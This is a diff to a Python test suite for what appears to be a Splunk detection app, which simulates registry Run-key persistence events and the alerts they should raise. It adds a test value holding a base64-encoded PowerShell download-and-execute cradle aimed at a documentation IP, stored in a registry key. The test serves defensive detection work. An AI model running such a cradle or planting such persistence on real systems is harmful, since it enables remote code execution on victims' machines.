@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from collections.abc import Mapping
 
 import pytest
@@ -17,13 +18,16 @@ from tests.site.simulation.processes import Process, desktop
 from tests.site.simulation.rendering import indexed
 from tests.site.simulation.sysmon import SysmonEvent, changed, set_value
 from tests.splunk_app.conftest import SUNDAY_MIDNIGHT, Start
-from tests.splunk_app.test_alerts_of_the_week import FIRST_SEEN
+from tests.splunk_app.test_alerts_of_the_week import FIRST_SEEN, STORED
 from tools.generate.searches.prevalence import MARK
 
-ON_WRITES = (CRITICAL, HIGH, KNOWN_NAME, HIDDEN, REMOVED, FIRST_SEEN)
+ON_WRITES = (CRITICAL, HIGH, KNOWN_NAME, HIDDEN, REMOVED, FIRST_SEEN, STORED)
 HKLM = r"HKLM\SOFTWARE\Microsoft"
 RUN = rf"{HKLM}\Windows\CurrentVersion\Run"
 SETUP, TEMP = r"C:\Program Files\Till\setup.exe", r"C:\Users\Public\setup.exe"
+ENCODED_PROGRAM = base64.b64encode(
+    ('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a");' * 3).encode("utf-16-le")
+).decode()
 TILL = r'"C:\Program Files\Till\till.exe"'
 
 
@@ -47,6 +51,10 @@ KINDS: Mapping[str, tuple[SysmonEvent, str]] = {
     "a known name, below 60": (wrote(SETUP, rf"{RUN}\SecurityHealth", TILL), KNOWN_NAME),
     "a known name, from 60 on": (wrote(TEMP, rf"{RUN}\SecurityHealth", r"C:\Users\Public\till.exe"), CRITICAL),
     "a hidden name, below 60": (wrote(SETUP, f"{RUN}\\Ti\u200bll", TILL), HIDDEN),
+    "an encoded program beside words of a location": (
+        wrote(REG, rf"{HKLM}\Windows\CurrentVersion\Control Panel\Run\Cache", ENCODED_PROGRAM),
+        STORED,
+    ),
     "known good": (wrote(SETUP, rf"{RUN}\SecurityHealth", r"%windir%\system32\SecurityHealthSystray.exe"), ""),
     "a security product removed by hand": (removed(REG, rf"{RUN}\SecurityHealth"), REMOVED),
     "a security product removed by anybody": (removed(TEMP, rf"{RUN}\SecurityHealth"), REMOVED),
